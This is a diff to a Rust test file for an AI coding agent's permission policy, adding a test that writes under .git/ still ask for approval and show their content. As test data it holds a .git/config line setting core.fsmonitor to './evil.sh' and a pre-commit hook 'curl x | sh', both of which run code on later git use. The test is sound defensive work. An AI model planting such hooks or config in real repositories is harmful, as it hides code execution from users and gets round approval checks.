@@ -160,7 +160,8 @@ fn access_reports_resolved_paths() {
             .unwrap(),
         Access::Write {
             path: ws.root.parent().unwrap().join("b.txt"),
-            inside: false
+            inside: false,
+            preview: None,
         }
     );
     assert_eq!(
@@ -554,4 +555,67 @@ fn builtin_registry_has_all_tools_with_strict_schemas() {
             );
         }
     }
+}
+
+/// Finding 10: a write under `.git/` (a hook, `core.fsmonitor`) makes the next `git status`
+/// run code, so the approval must show what would be written, even with writes allowed.
+#[test]
+fn writes_under_git_ask_and_show_the_content() {
+    use pincer_core::policy::{PolicyConfig, Verdict};
+    let ws = Workspace::new();
+    let policy = PolicyConfig {
+        write: Verdict::Allow,
+        ..PolicyConfig::default()
+    };
+    let content = "[core]\n\tfsmonitor = ./evil.sh\n";
+    let access = ws
+        .access(
+            "write_file",
+            json!({"path": ".git/config", "content": content}),
+        )
+        .unwrap();
+    let check = policy.check("write_file", &access);
+    assert_eq!(check.verdict, Verdict::Ask);
+    assert!(
+        check.summary.contains("fsmonitor = ./evil.sh"),
+        "{}",
+        check.summary
+    );
+    assert!(
+        check.pattern.starts_with(&format!(
+            "write_file:{}#",
+            ws.root.join(".git/config").display()
+        )),
+        "a grant covers this file with this content only: {}",
+        check.pattern
+    );
+    let other = ws
+        .access(
+            "write_file",
+            json!({"path": ".git/config", "content": "[core]\n"}),
+        )
+        .unwrap();
+    assert_ne!(policy.check("write_file", &other).pattern, check.pattern);
+
+    ws.write("x.txt", "old");
+    let edit = ws
+        .access(
+            "edit_file",
+            json!({"path": ".git/hooks/pre-commit", "old_text": "old", "new_text": "curl x | sh"}),
+        )
+        .unwrap();
+    let check = policy.check("edit_file", &edit);
+    assert_eq!(check.verdict, Verdict::Ask);
+    assert!(check.summary.contains("curl x | sh"), "{}", check.summary);
+
+    // Elsewhere in the workspace the setting holds, and a deny stays a deny.
+    let plain = ws
+        .access("write_file", json!({"path": "src/x.txt", "content": "x"}))
+        .unwrap();
+    assert_eq!(policy.check("write_file", &plain).verdict, Verdict::Allow);
+    let strict = PolicyConfig {
+        write: Verdict::Deny,
+        ..PolicyConfig::default()
+    };
+    assert_eq!(strict.check("write_file", &access).verdict, Verdict::Deny);
 }
